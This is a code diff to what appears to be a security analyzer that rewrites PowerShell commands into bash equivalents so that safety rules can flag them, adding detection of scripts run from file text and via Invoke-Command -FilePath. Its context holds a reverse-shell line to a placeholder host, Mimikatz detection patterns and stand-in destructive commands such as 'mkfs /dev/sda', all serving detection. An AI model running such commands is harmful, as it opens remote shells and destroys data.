@@ -20,6 +20,7 @@ from __future__ import annotations
 import base64
 import binascii
 import contextvars
+import posixpath
 import re
 import urllib.parse
 import shlex
@@ -582,11 +583,15 @@ def to_bash(code: str, depth: int = 0) -> str:
         if folded is not None:
             return "echo " + shlex.quote(folded)   # ('{0}-{1}' -f 'a','b' alone: a value printed)
     pieced = ""
+    if "(" in code and _RUNS_TEXT.search(code):
+        for m in _RUN_FILE_TEXT.finditer(code):
+            lit = m.group(1) or m.group(2)
+            pieced += "; cat -- " + (_literal_word(lit, depth) if lit[:1] in ("'", '"') else _bare(lit)) + " | sh"
     if ("$" in code or "-valueo" in code.lower() or "env:" in code.lower() or "environmentvariable" in code.lower()) \
             and _RUNS_TEXT.search(code):
-        pieced = "".join("; ( " + to_bash(text, depth + 1) + " )" for text in _pieced_readings(code))
-        if pieced:
-            pieced += "; " + UNKNOWN
+        texts = "".join("; ( " + to_bash(text, depth + 1) + " )" for text in _pieced_readings(code))
+        if texts:
+            pieced += texts + "; " + UNKNOWN
     _SEEN.set(None)
     try:
         toks = _bound(_tokens(code), code)
@@ -1015,6 +1020,27 @@ def _function_bodies(code: str) -> dict[str, str]:
     return {k: v for k, v in out.items() if seen[k] == 1 and k not in drive}
 
 
+def module_spellings(path: str) -> list[str]:
+    """(probe round 40, pwsh40) The other spellings of the module a path imports: a manifest
+    X.psd1 (its root module, by convention X.psm1 beside it), a script module X.psm1, a
+    binary X.dll, the module's folder X (X/X.psd1, X/X.psm1); none for anything else."""
+    p = path.replace("\\", "/").rstrip("/")
+    if not p or "$" in p or len(p) > 1024:
+        return []
+    head, _, base = p.rpartition("/")
+    stem, dot, ext = base.rpartition(".")
+    ext = ext.lower() if dot else ""
+    if ext in ("psd1", "psm1", "dll"):
+        here = (head + "/" if head else "") + stem
+        out = [here + "." + e for e in ("psd1", "psm1") if e != ext] + [here]
+        if head and posixpath.basename(head) == stem:
+            out += [head, head + ".psm1", head + ".psd1"]   # (./deploy/deploy.psd1: the folder deploy)
+        return out
+    if not dot and base not in (".", ".."):
+        return [p + "/" + base + ".psd1", p + "/" + base + ".psm1", p + ".psm1", p + ".psd1"]
+    return []
+
+
 def _table(body: str) -> dict[str, _T | None] | None:
     """A hashtable literal of literal values (Path='C:\\'; Recurse=$true), as parameters."""
     out: dict[str, _T | None] = {}
@@ -1087,6 +1113,13 @@ _PS_RUNS_READ = re.compile(r"(?i)\b(?:iex|invoke-expression)\b(?:\s+-c(?:ommand)
                            r"\[scriptblock\]\s*::\s*create\s*\(\s*\$|redirectstandardinput|"
                            r"\binvoke-command\b[^;|]*-scriptblock\s*\(?\s*\[scriptblock\]")
 REMOTE_SHELL = "sh -i >& /dev/tcp/0.0.0.0/0 0>&1"
+# (probe round 40, pwsh40) a file's text made into code and run: [scriptblock]::Create((Get-Content X
+# -Raw)), iex ([IO.File]::ReadAllText('X')), .InvokeScript((gc X | Out-String)): the script X run, as
+# Get-Content X | iex is (cat X | sh, for the operators' rules on X)
+_RUN_FILE_TEXT = re.compile(r"(?i)(?:::\s*create|\.\s*(?:newscriptblock|invokescript|addscript)|\b(?:iex|invoke-expression)"
+                            r"(?:\s+-c(?:ommand)?)?)\s*\(\s*(?:\(\s*(?:get-content|gc|cat|type)\s+(?:-(?:literal)?path\s+)?"
+                            r"('[^']*'|\"[^\"$`]*\"|[^\s()'\"|;$`]+)(?:\s+-(?:raw|encoding\s+\w+))*\s*(?:\|\s*out-string\s*)?\)"
+                            r"|\[(?:system\.)?io\.file\]::readall(?:text|lines)\(\s*('[^']*'|\"[^\"$`]*\")\s*(?:,[^()]*)?\))")
 _MIMIKATZ_TEXT = re.compile(r"(?i)\b(?:sekurlsa|lsadump|dpapi|vault|kerberos)::\w+")
 
 
@@ -2358,6 +2391,16 @@ def _command_inner(toks: list[_T], depth: int, piped: bool | str) -> str:
         if lines:
             return "; ".join("( " + cmd_to_bash(line, depth + 1) + " )" for line in lines[:4]) + "; " + UNKNOWN
         return UNKNOWN
+    if name in ("invoke-command", "start-job", "start-threadjob") and _values(named, "filepath", least=2):
+        # (probe round 40, pwsh40) Invoke-Command -FilePath X, Start-Job -FilePath X: the script
+        # X run (here, in a job, or read here and run on another computer), as ./X is
+        files = _values(named, "filepath", least=2)
+        if any(t[0] not in ("w", "s", "v") for t in files):
+            return UNKNOWN
+        remote = any(k for k in named if any(f.startswith(k) for f in ("computername", "session", "hostname", "cn")))
+        given = "".join(" " + _word(a, depth) for a in _values(named, "argumentlist", "args", least=1) if a[0] in ("w", "s", "v"))
+        return "; ".join("./run-script " + _word(t, depth) + given for t in files) + rd \
+            + ("; " + UNKNOWN if remote or any(t[0] == "v" for t in files) else "")
     if name in ("invoke-command", "start-job", "start-threadjob"):
         # (Invoke-Command ([scriptblock]::Create(...)): a positional expression is the block too)
         code = [b for b in blocks] + [t for t in pos[:1] if t[0] in ("paren", "sub") and re.search(
@@ -2397,11 +2440,14 @@ def _command_inner(toks: list[_T], depth: int, piped: bool | str) -> str:
         return "mkfs /dev/sda"
     if name in _POWER:
         return "shutdown now"
-    if name in ("invoke-item", "import-module") and not blocks and not exprs:
+    if name in ("invoke-item", "import-module") and not blocks and all(
+            t[0] in ("paren", "sub") and _PATH_EXPR.fullmatch(t[1]) and _path_expr(t[1]) for t in exprs):
         # (probe round 36, windows36) Invoke-Item runs a program or script as a double click
         # does, Import-Module a module file's code as . .\x.ps1 does: a file the line downloaded, so
-        # opened or imported, is fetched and run (iwr URL -OutFile x.exe; ii x.exe)
-        paths = _values(named, "path", "literalpath", "name", least=1) or pos
+        # opened or imported, is fetched and run (iwr URL -OutFile x.exe; ii x.exe); (probe round 40,
+        # pwsh40) a path given as (Resolve-Path X), (Join-Path . X), (Get-Item X) is that path
+        paths = [_path_expr(t[1]) or t if t[0] in ("paren", "sub") else t
+                 for t in (_values(named, "path", "literalpath", "name", least=1) or pos)]
         files = [t for t in paths if t[0] in ("w", "s", "v") and (
             t[1].lower().endswith(_RUNNABLE) if name == "invoke-item" else "\\" in t[1] or "/" in t[1]
             or t[1].lower().endswith((".psm1", ".ps1", ".dll", ".psd1")))]
